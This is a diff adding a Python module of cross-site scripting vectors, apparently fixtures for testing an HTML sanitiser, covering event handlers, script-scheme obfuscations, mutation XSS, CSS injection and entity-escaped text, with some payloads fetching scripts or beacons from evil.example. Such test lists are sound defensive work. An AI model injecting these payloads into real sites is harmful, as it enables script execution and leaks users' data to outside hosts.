@@ -1,0 +1,161 @@
+"""HTML that tries to be more than text: each vector would call `alert(1)`, load something or change the page."""
+
+from __future__ import annotations
+
+from itertools import product
+
+_HANDLERS = (
+    "onload",
+    "onerror",
+    "onclick",
+    "onmouseover",
+    "onfocus",
+    "onpointerenter",
+    "ontoggle",
+    "onanimationstart",
+)
+_ELEMENTS = ("img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "p", "b")
+_SCHEMES = (
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    "java\tscript:alert(1)",
+    "java\nscript:alert(1)",
+    " javascript:alert(1)",
+    "\x01javascript:alert(1)",
+    "&#106;avascript:alert(1)",
+    "&#x6A;avascript&colon;alert(1)",
+    "javascript&#58;alert(1)",
+    "java&Tab;script:alert(1)",
+    "java&NewLine;script:alert(1)",
+    "vbscript:msgbox(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+    "data:image/svg+xml,<svg onload=alert(1)>",
+    "//evil.example/x",
+    "https://evil.example/x",
+    "mailto:a@evil.example",
+)
+_CARRIERS = ('<a href="{}">x</a>', '<iframe src="{}"></iframe>', '<form action="{}"><button>x</button></form>')
+
+_SCRIPTS = (
+    "<script>alert(1)</script>",
+    "<SCRIPT>alert(1)</SCRIPT>",
+    "<script >alert(1)</script >",
+    "<script/x>alert(1)</script>",
+    "<script\x0c>alert(1)</script>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<script src=//evil.example/x.js></script>",
+    "<script type=module>import('//evil.example/x.js')</script>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><script href=data:,alert(1) /></svg>",
+    "<math><script>alert(1)</script></math>",
+    "<b><script>alert(1)</b></script>",
+    "<script>alert(1)",
+    "<<script>alert(1)//<</script>",
+    "<!--><script>alert(1)</script>-->",
+    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?php?><script>alert(1)</script>",
+    "</p></div></article><script>alert(1)</script>",
+    "<title><script>alert(1)</script></title>",
+    "<textarea></textarea><script>alert(1)</script>",
+    "<noscript><p title='</noscript><script>alert(1)</script>'>",
+    "<xmp><script>alert(1)</script></xmp>",
+    "<plaintext><script>alert(1)</script>",
+    "<template><script>alert(1)</script></template>",
+)
+_STYLES = (
+    "<style>*{display:none}</style>",
+    "<style>@import '//evil.example/x.css';</style>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<p style='background:url(//evil.example/x)'>x</p>",
+    "<p style='position:fixed;inset:0;font-weight:bold'>x</p>",
+    "<span style='font-weight:bold;width:expression(alert(1))'>x</span>",
+    "<b style='font-weight:bold\\;}*{display:none'>x</b>",
+    '<p style="font-weight:700;}</style><script>alert(1)</script>">x</p>',
+    "<strong class=panel id=count hidden contenteditable>x</strong>",
+    "<p lang=zh dir=rtl is=x-p slot=a part=b>x</p>",
+    "<style><img src=x onerror=alert(1)></style>",
+    "<svg><style><img src=x onerror=alert(1)></style></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
+    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></use></svg>",
+    "<svg><foreignObject><iframe srcdoc='<script>parent.alert(1)</script>'></iframe></foreignObject></svg>",
+)
+_PAGES = (
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<base href=//evil.example/>",
+    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
+    "<object data=//evil.example/x.swf></object>",
+    "<embed src=//evil.example/x.swf>",
+    "<applet code=x></applet>",
+    "<frameset><frame src=javascript:parent.alert(1)></frameset>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<form><input name=csrf value=x><input type=submit></form>",
+    "<img src=//evil.example/beacon.png>",
+    "<img srcset='//evil.example/a.png 1x'>",
+    "<picture><source srcset=//evil.example/a.png><img></picture>",
+    "<video poster=//evil.example/a.png></video>",
+    "<audio src=//evil.example/a.mp3 autoplay></audio>",
+    "<input type=image src=//evil.example/a.png>",
+    "<table background=//evil.example/a.png><tr><td background=//evil.example/b.png>x</td></tr></table>",
+    "<dialog open>x</dialog>",
+    "<portal src=//evil.example></portal>",
+    "<isindex action=javascript:alert(1)>",
+    "<object><param name=src value=javascript:alert(1)></object>",
+)
+# Text that turns into something else when it is parsed twice, or serialised and parsed again (mutation XSS).
+_MUTATIONS = (
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
+    "<noscript><style></noscript><img src=x onerror=alert(1)>",
+    "<listing>&lt;img src=1 onerror=alert(1)&gt;</listing>",
+    "<p><svg><title><p><style><!--</style></title><img src=x onerror=alert(1)>--></svg>",
+    "<a><b><c><d><table><p></a><img src=x onerror=alert(1)>",
+    '<select><template><style><!--</style><a rel="--></style></template></select><img id=x src=1 onerror=alert(1)>">',
+    "<math><annotation-xml encoding=text/html><p></annotation-xml><style><img src onerror=alert(1)>",
+    "<svg><![CDATA[><img src=1 onerror=alert(1)>]]>",
+    "<b title='</b><img src=1 onerror=alert(1)>'>x</b>",
+    '<img alt="``onerror=alert(1)" src=x>',
+    "<table><td><svg><desc><td><img src=x onerror=alert(1)></svg>",
+)
+# Escaped text must stay text, however often it was escaped.
+_ENTITIES = (
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "&#x3c;img src=x onerror=alert(1)&#x3e;",
+    "&#0000060img src=x onerror=alert(1)&#62",
+    "&LT;svg onload=alert(1)&GT;",
+    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
+    "<\u200bscript>alert(1)</script>",
+    "<\x00script>alert(1)</script>",
+    "<scr\x00ipt>alert(1)</scr\x00ipt>",
+    "{{ 7 * 7 }}{% raw %}<script>alert(1)</script>",
+    '" onfocus=alert(1) autofocus x="',
+    "' onmouseover='alert(1)",
+    "`-alert(1)-`",
+    "</strong></p><img src=x onerror=alert(1)>",
+    "<",
+    "<b",
+    "<!--",
+    "<p><b>open",
+    "&#xD800;&#0;&#x110000;&bogus;",
+    "\u202ealert\u202c<b>\u2028x\u2029</b>",
+)
+
+# Those that act by themselves in a browser, if anything lets them; none leads away from the page.
+ACTING: tuple[str, ...] = (
+    *(f"<{element} {handler}=alert(1)>x" for element, handler in product(_ELEMENTS, _HANDLERS)),
+    *(script for script in _SCRIPTS if "evil" not in script),
+)
+VECTORS: tuple[str, ...] = (
+    *ACTING,
+    *(carrier.format(scheme.replace('"', "&quot;")) for carrier, scheme in product(_CARRIERS, _SCHEMES)),
+    *(script for script in _SCRIPTS if "evil" in script),
+    *_STYLES,
+    *_PAGES,
+    *_MUTATIONS,
+    *_ENTITIES,
+)
